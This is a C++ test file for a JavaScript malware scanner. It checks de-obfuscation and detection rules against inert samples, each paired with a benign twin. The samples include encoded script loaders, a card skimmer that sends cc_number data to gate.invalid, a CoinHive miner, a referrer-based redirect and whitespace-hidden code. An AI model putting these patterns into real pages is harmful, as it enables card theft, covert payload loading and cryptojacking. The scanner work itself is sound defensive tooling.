// By mechanism, with inert samples: hosts under .invalid, code that would do nothing anywhere. Each bad one
// has a clean twin that honest sites carry.
#include "scan/javascript.h"

#include <gtest/gtest.h>

#include <fmt/format.h>

namespace aplomb::scan {
namespace {

std::string tokens_of(std::string_view source) {
  JsTokens tokens = lex_js(source);
  std::string out;
  for (size_t i = 0; i < tokens.size(); ++i) out.append(tokens.text(i)).push_back('\n');
  return out;
}

TEST(JsLexer, TellsRegularExpressionsFromDivisions) {
  EXPECT_EQ(tokens_of("a = b / c / d"), "a\n=\nb\n/\nc\n/\nd\n");
  EXPECT_EQ(tokens_of("x = /[/\"]+/g.test(y)"), "x\n=\n/[/\"]+/g\n.\ntest\n(\ny\n)\n");
  EXPECT_EQ(tokens_of("if (x) /a'b/.test(y)"), "if\n(\nx\n)\n/a'b/\n.\ntest\n(\ny\n)\n");
  EXPECT_EQ(tokens_of("(a) / b"), "(\na\n)\n/\nb\n");
  EXPECT_EQ(tokens_of("return /'/"), "return\n/'/\n");
}

TEST(JsLexer, ReadsTemplatesWithTheirSubstitutions) {
  EXPECT_EQ(tokens_of("`a${ {b:1}.b }c`+d"), "a\n${\n{\nb\n:\n1\n}\n.\nb\n}\nc\n+\nd\n");
  EXPECT_EQ(tokens_of("`a${`b`}`"), "a\n${\nb\n}\n\n");
}

TEST(JsLexer, SkipsCommentsAndCountsLines) {
  JsTokens tokens = lex_js("#!/usr/bin/env node\n// one\n/* two\n three */ x\n'a\\\nb' y");
  ASSERT_EQ(tokens.size(), 3u);
  EXPECT_EQ(tokens.line(0), 4u);
  EXPECT_EQ(tokens.line(1), 5u);
  EXPECT_EQ(tokens.line(2), 6u);
}

TEST(JsLexer, SurvivesTruncationAtEveryByte) {
  std::string source = "var a=`x${b?/[/]/:'\\x41'}y`;/*c*/d=\"\\u{41}\"//e\n;f=0x1F/g";
  for (size_t i = 0; i <= source.size(); ++i) {
    JsTokens tokens = lex_js(std::string_view(source).substr(0, i));
    for (const JsToken& token : tokens.tokens) EXPECT_LE(token.begin + token.length, i);
  }
}

TEST(JsLexer, StopsAtItsLimitAndSaysSo) {
  JsTokens tokens = lex_js("a b c d e f", 1, 3);
  EXPECT_EQ(tokens.size(), 3u);
  EXPECT_TRUE(tokens.hit_limit);
}

TEST(JsString, ResolvesEscapesAndCountsHiddenOnes) {
  JsString string = js_string_value("'\\x68\\u0069\\n\\'\\103\\u{41}'");
  EXPECT_EQ(string.value, "hi\n'CA");
  EXPECT_EQ(string.hidden, 4u);
}

std::string folded(std::string_view source) {
  JsTokens tokens = lex_js(source);
  JsFolder folder(tokens, JsFolder::kStepsMax);
  for (size_t i = 0; i < tokens.size(); ++i)
    if (tokens.is(i, "RESULT")) {
      std::optional<JsConstant> constant = folder.fold(i + 2);
      return constant ? constant->value : "(not constant)";
    }
  return "(no result)";
}

TEST(JsFold, ComesToTheConstant) {
  EXPECT_EQ(folded("RESULT='a'+\"b\"+`c`"), "abc");
  EXPECT_EQ(folded("RESULT=atob('aGVsbG8=')"), "hello");
  EXPECT_EQ(folded("RESULT=window.unescape('%68%69')"), "hi");
  EXPECT_EQ(folded("RESULT=String.fromCharCode(104,0x69,100+5)"), "hii");
  EXPECT_EQ(folded("RESULT=String['fromCharCode'](104)"), "h");
  EXPECT_EQ(folded("RESULT='olleh'.split('').reverse().join('')"), "hello");
  EXPECT_EQ(folded("RESULT='hXeXy'.replace(/X/g,'')"), "hey");
  EXPECT_EQ(folded("RESULT=['a','b','c'].join('-')"), "a-b-c");
  EXPECT_EQ(folded("var a='x';var b=a+'y';RESULT=b+'z'"), "xyz");
  EXPECT_EQ(folded("var t=['p','q'];RESULT=t[1]+t[0]"), "qp");
}

TEST(JsFold, KnowsWhatItDoesNotKnow) {
  EXPECT_EQ(folded("var a='x';a='y';RESULT=a"), "(not constant)");
  EXPECT_EQ(folded("var a='x'?b:c;RESULT=a"), "(not constant)");
  EXPECT_EQ(folded("RESULT='a'+b"), "(not constant)");
  EXPECT_EQ(folded("RESULT=atob(x)"), "(not constant)");
  EXPECT_EQ(folded("RESULT=atob('$$$')"), "(not constant)");
  EXPECT_EQ(folded("a=a+'x';RESULT=a"), "(not constant)");
}

TEST(JsFold, DoublingVariablesStayWithinTheBudget) {
  std::string source = "var v0='" + std::string(1000, 'x') + "';";
  for (int i = 1; i < 40; ++i) source += fmt::format("var v{}=v{}+v{}+v{};", i, i - 1, i - 1, i - 1);
  EXPECT_EQ(folded(source + "RESULT=v39"), "(not constant)");
}

Level level_of(std::string_view source, std::string_view rule = "") {
  ReportBuilder report;
  analyse_javascript(source, Layer{}, report);
  Level level = Level::none;
  for (const Finding& finding : report.findings())
    if (rule.empty() || finding.rule == rule) level = std::max(level, finding.level);
  return level;
}

// atob("…") of var s=document.createElement('script');s.src='https://cdn.invalid/x.js';
constexpr std::string_view kEncodedLoader =
    "dmFyIHM9ZG9jdW1lbnQuY3JlYXRlRWxlbWVudCgnc2NyaXB0Jyk7cy5zcmM9J2h0dHBzOi8vY2RuLmludmFsaWQveC5qcyc7";

TEST(Javascript, ExecutingADecodedConstantIsSuspiciousAndItsLayerDecides) {
  EXPECT_EQ(level_of("eval(atob('YWxlcnQoMSk='))"), Level::suspicious);
  EXPECT_EQ(level_of("new Function(String.fromCharCode(97,108,101,114,116))()"), Level::suspicious);
  EXPECT_EQ(level_of("setTimeout(atob('YWxlcnQoMSk='), 10)"), Level::suspicious);
  EXPECT_EQ(level_of("eval(atob('" + std::string(kEncodedLoader) + "'))"), Level::malicious);
  EXPECT_EQ(
      level_of("var a='" + std::string(kEncodedLoader) + "';window['ev'+'al'](atob(a))", "js-hidden-call"),
      Level::suspicious);
  EXPECT_EQ(level_of("eval(atob(location.hash))", "js-executes-decoded-data"), Level::suspicious);
  // honest: constants in the open, templates, timers with functions, the old way to write a script tag
  EXPECT_EQ(level_of("eval('(' + text + ')'); new Function('return this')(); setTimeout(function(){}, 5)"),
            Level::none);
  EXPECT_EQ(level_of("document.write(unescape('%3Cscript src=\\'js/jquery.js\\'%3E%3C/script%3E'))"),
            Level::none);
  EXPECT_EQ(level_of("var x = atob('YWxlcnQoMSk='); show(x);"), Level::none);
}

TEST(Javascript, AHiddenAddressOfAScriptIsMalicious) {
  EXPECT_EQ(level_of("var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9jZG4uaW52YWxpZC94Lmpz');"
                     "document.head.appendChild(s)"),
            Level::malicious);
  EXPECT_EQ(level_of("var s=document.createElement('script');"
                     "s.setAttribute('src','\\x68\\x74\\x74\\x70\\x73:\\x2f\\x2f\\x63\\x64\\x6e."
                     "\\x69\\x6e\\x76alid/x')"),
            Level::malicious);
  EXPECT_EQ(
      level_of("document.write(atob('PHNjcmlwdCBzcmM9aHR0cHM6Ly9jZG4uaW52YWxpZC94Lmpz'+'Pjwvc2NyaXB0Pg=='))"),
      Level::malicious);
  EXPECT_EQ(level_of("var s=document.createElement('script');s.src='https://cdn.invalid/analytics.js';"
                     "document.head.appendChild(s)"),
            Level::none);
}

TEST(Javascript, ATableOfEncodedWordsWithAnAddressIsALoader) {
  std::string table =
      "var _0xa=[\"\\x63\\x72\\x65\\x61\\x74\\x65\\x45\\x6c\\x65\\x6d\\x65\\x6e\\x74\","
      "\"\\x73\\x63\\x72\\x69\\x70\\x74\","
      "\"\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x63\\x2e\\x69\\x6e\\x76\"];";
  EXPECT_EQ(level_of(table, "js-hidden-loader"), Level::malicious);
  EXPECT_EQ(level_of("var escapes=['\\x00','\\x1f','\\u2028','\\u2029','\\xff'];"), Level::none);
}

TEST(Javascript, APackerIsUndoneAndItsContentJudged) {
  std::string packed = "eval(function(p,a,c,k,e,d){return p}('0(1)',2,2,'alert|name'.split('|'),0,{}))";
  EXPECT_EQ(level_of(packed), Level::none);
  std::string redirect =
      "eval(function(p,a,c,k,e,d){return p}('0(1(\"YWxlcnQoMSk=\"))',2,2,'eval|atob'.split('|'),0,{}))";
  EXPECT_EQ(level_of(redirect), Level::suspicious);
}

constexpr std::string_view kReadCard =
    "document.addEventListener('submit', function(){ var d = "
    "document.querySelector('[name=cc_number]').value;";

TEST(Javascript, SkimmersReadSecretsAndSendThemElsewhere) {
  std::string read(kReadCard);
  EXPECT_EQ(level_of(read + "new Image().src='https://gate.invalid/?d='+btoa(d);});"), Level::malicious);
  EXPECT_EQ(level_of(read + "fetch(atob('aHR0cHM6Ly9nYXRlLmludmFsaWQv'),{body:d});});"), Level::malicious);
  EXPECT_EQ(level_of(read + "fetch('https://gate.invalid/',{body:d});});"), Level::suspicious);
  EXPECT_EQ(level_of(read + "fetch('/checkout/pay',{body:d});});"), Level::none);
  EXPECT_EQ(level_of("document.addEventListener('submit', function(){ fetch('https://stats.invalid/', {body: "
                     "x.value}) })"),
            Level::none);
}

TEST(Javascript, MinersAreKnownByTheirMechanism) {
  EXPECT_EQ(level_of("var m = new CoinHive.Anonymous('key'); m.start();"), Level::malicious);
  EXPECT_EQ(
      level_of("var w=new Worker('w.js'),s=new WebSocket('wss://pool.invalid');WebAssembly.instantiate(m);"
               "s.onmessage=function(j){run('cryptonight',j.job_id,hashesPerSecond)}"),
      Level::malicious);
  EXPECT_EQ(level_of("var blocked=['coinhive.com','crypto-loot.com'];"), Level::none);
  EXPECT_EQ(level_of("var w=new Worker('w.js'),s=new WebSocket('wss://chat.invalid');"), Level::none);
}

TEST(Javascript, RedirectsThatChooseTheirVisitors) {
  EXPECT_EQ(
      level_of("if(document.referrer.indexOf('google.')>0){window.location.href='https://shop.invalid/'}"),
      Level::malicious);
  EXPECT_EQ(
      level_of("if(/iPhone|Android/.test(navigator.userAgent)){location.replace('https://m.invalid/')}"),
      Level::suspicious);
  EXPECT_EQ(level_of("location=atob('aHR0cHM6Ly9zaG9wLmludmFsaWQv')"), Level::malicious);
  EXPECT_EQ(level_of("if(/iPhone/.test(navigator.userAgent)){location.href='/mobile/'}"), Level::none);
  EXPECT_EQ(
      level_of("var from=document.referrer; track(from); button.onclick=function(){location.href=link}"),
      Level::none);
}

TEST(Javascript, CodePushedOutOfSight) {
  std::string blanks(400, ' ');
  EXPECT_EQ(level_of("var a=1;" + blanks + "b.c('marker');d.e(1,2,3);"), Level::suspicious);
  EXPECT_EQ(level_of("var a=1;\n" + blanks + "b.c('marker');d.e(1,2,3);"), Level::none);
}

TEST(Javascript, EndlessLayersCostALimitedAmount) {
  std::string big(1 << 20, ' '), source = "var b='" + big + "';";
  for (int i = 0; i < 500; ++i) source += "eval(b);";
  ReportBuilder report;
  analyse_javascript(source, Layer{}, report);
  EXPECT_TRUE(report.hit_limit());
}

TEST(Javascript, LinesAreThoseOfTheFile) {
  ReportBuilder report;
  analyse_javascript("\n\neval(atob('YWxlcnQoMSk='))", Layer{}, report);
  ASSERT_EQ(report.findings().size(), 1u);
  EXPECT_EQ(report.findings()[0].line, 3u);
}

}  // namespace
}  // namespace aplomb::scan
